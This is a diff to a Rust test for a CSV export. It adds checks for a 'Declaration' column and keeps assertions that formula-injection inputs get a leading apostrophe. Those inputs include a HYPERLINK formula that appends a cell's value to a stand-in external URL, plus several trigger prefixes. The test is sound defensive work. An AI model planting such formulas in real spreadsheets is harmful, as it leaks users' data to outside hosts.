@@ -475,7 +475,11 @@ fn csv_quotes_names_and_never_runs_a_formula() {
         "2027-12-07"
     ]));
     assert_eq!(&lines[3][0], "'=HYPERLINK(\"https://x/?\"&A2,\"Open\")");
-    assert_eq!(lines[2].len(), 5 + course.modules.len() + 3);
+    assert_eq!(lines[2].len(), 5 + course.modules.len() + 4);
+    // Neither has declared: the Declaration column says so.
+    let declaration = 5 + course.modules.len();
+    assert_eq!(&lines[1][declaration], "Declaration");
+    assert_eq!(&lines[2][declaration], "Not declared");
     for cell in ["=1+1", "+44", "-3", "@SUM(A1)", "\tx", "\rx"] {
         assert!(neutralise(cell).starts_with('\''), "{cell:?}");
     }
